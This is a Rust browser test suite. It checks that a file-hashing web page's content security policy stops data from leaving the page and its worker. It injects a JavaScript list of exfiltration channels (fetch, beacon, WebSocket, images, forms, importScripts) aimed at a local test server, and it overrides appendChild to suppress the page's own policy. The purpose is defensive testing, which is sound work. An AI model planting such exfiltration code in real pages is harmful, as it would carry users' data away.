//! What the page's policy forbids, tried by code in the page and in its worker.

use std::fs;

use serde_json::json;

use super::expect;
use crate::Outcome;
use crate::files;
use crate::page::Browser;
use crate::server::{Server, product};

/// Tries everything that could carry bytes away, each to an address of its own.
const ATTEMPTS: &str = r#"
const attempts = {
  fetch: (url) => fetch(url, { method: "POST", mode: "no-cors", body: "bytes" }),
  keepalive: (url) => fetch(url, { mode: "no-cors", keepalive: true }),
  xhr: (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); },
  websocket: (url) => new WebSocket(url.replace("http", "ws")),
  eventsource: (url) => new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url, "bytes"),
  importscripts: (url) => importScripts(url),
  import: (url) => import(url),
  worker: (url) => new Worker(url),
  image: (url) => add("img", { src: url }),
  script: (url) => add("script", { src: url }),
  style: (url) => add("link", { rel: "stylesheet", href: url }),
  prefetch: (url) => add("link", { rel: "prefetch", href: url }),
  frame: (url) => add("iframe", { src: url }),
  video: (url) => add("video", { src: url }),
  object: (url) => add("object", { data: url }),
  form: (url) => {
    add("iframe", { name: url });
    add("form", { action: url, method: "post", target: url }).submit();
  },
};
const add = (name, attributes) =>
  document.body.appendChild(Object.assign(document.createElement(name), attributes));
const attack = (place) => {
  for (const origin of ["ELSEWHERE", self.origin]) {
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        Promise.resolve(attempt(origin + "/" + place + "/" + name)).catch(() => {});
      } catch {}
    }
  }
};
// The page, which loads its own files first, is asked to attack later.
if (place === "page") addEventListener("attack", ({ detail }) => attack(detail)); else attack(place);
"#;

/// Keeps the page from adding a policy to itself.
const KEPT_OPEN: &str = "
const append = Node.prototype.appendChild;
Node.prototype.appendChild = function (node) { return node.httpEquiv ? node : append.call(this, node); };
";

/// What works in a page that nothing forbids it, in every engine.
const IN_A_PAGE: [&str; 8] = [
    "fetch",
    "xhr",
    "websocket",
    "eventsource",
    "beacon",
    "image",
    "frame",
    "form",
];

/// The same in a worker.
const IN_A_WORKER: [&str; 4] = ["fetch", "xhr", "websocket", "importscripts"];

/// Neither to another server nor, once the page has what it needs, to its own.
pub async fn nothing_gets_out(browser: &Browser) -> Outcome {
    let elsewhere = Server::start("/")?;
    attack(browser, &elsewhere, "").await?;
    wait_for_later_requests(browser, &elsewhere).await?;
    let mut there = elsewhere.log();
    there.retain(|path| !path.starts_with("/later") && path != "/favicon.ico");
    expect("requests elsewhere", there, Vec::new())?;
    let mut own = browser.server.log();
    own.retain(|path| path.starts_with("/page/") || path.starts_with("/worker/"));
    expect("requests to its own server", own, Vec::new())
}

/// What is asked for afterwards, and one after the other, has arrived; whatever got out
/// before is there, too.
async fn wait_for_later_requests(browser: &Browser, elsewhere: &Server) -> Outcome {
    let window = browser.client.new_window(true).await?.handle;
    browser.client.switch_to_window(window).await?;
    for path in ["later", "later/still"] {
        for server in [elsewhere, &browser.server] {
            let url = format!("{}{path}", server.url());
            browser.go(&url).await?;
            let asked = format!("/{path}");
            browser
                .wait_until("a later request arrives", async || {
                    Ok(server.log().contains(&asked).then_some(()))
                })
                .await?;
        }
    }
    Ok(())
}

/// The same attack on the same page without its policy, so that the journey above is
/// known to be able to fail.
pub async fn without_the_policy_it_gets_out(browser: &Browser) -> Outcome {
    let elsewhere = Server::start("/")?;
    browser.server.drop_policy();
    attack(browser, &elsewhere, KEPT_OPEN).await?;
    let expected = |place: &'static str, names: &[&'static str]| -> Vec<String> {
        names
            .iter()
            .map(|name| format!("/{place}/{name}"))
            .collect()
    };
    let expected = [
        expected("page", &IN_A_PAGE),
        expected("worker", &IN_A_WORKER),
    ]
    .concat();
    browser
        .wait_until("the attacks get out", async || {
            let log = elsewhere.log();
            Ok(expected.iter().all(|path| log.contains(path)).then_some(()))
        })
        .await
        .map_err(|_| format!("of {expected:?} only {:?} got out", elsewhere.log()).into())
}

/// Attacks from the page and from its worker, while a file is hashed.
async fn attack(browser: &Browser, elsewhere: &Server, first: &str) -> Outcome {
    browser.server.drop_integrity();
    plant(browser, elsewhere, first)?;
    browser.open_page().await?;
    // Before the page closes itself it may still ask its own server.
    let attack = "dispatchEvent(new CustomEvent('attack', { detail: arguments[0] }))";
    browser.script(attack, &[json!("early")]).await?;
    // So large that the worker lives until all of its attempts are made.
    let path = files::sparse(browser.folder.path(), 20 << 30)?;
    browser.choose(&path).await?;
    browser.progress(1).await?;
    browser.script(attack, &[json!("page")]).await?;
    Ok(())
}

/// Puts the attempts into the page's own script and into the worker's.
fn plant(browser: &Browser, elsewhere: &Server, first: &str) -> Outcome {
    let attempts = |place: &str| {
        let attempts = ATTEMPTS.replace("ELSEWHERE", elsewhere.url().trim_end_matches('/'));
        format!("{{ const place = \"{place}\"; {attempts} }}\n")
    };
    for file in fs::read_dir(product())? {
        let file = file?;
        let name = file.file_name().to_string_lossy().into_owned();
        let place = match name.as_str() {
            "worker.js" => "worker",
            name if name.starts_with("app-") && name.ends_with(".js") => "page",
            _ => continue,
        };
        let first = if place == "page" { first } else { "" };
        let script = format!(
            "{first}{}{}",
            attempts(place),
            fs::read_to_string(file.path())?
        );
        browser.server.replace(&name, Some(script.into_bytes()));
    }
    Ok(())
}
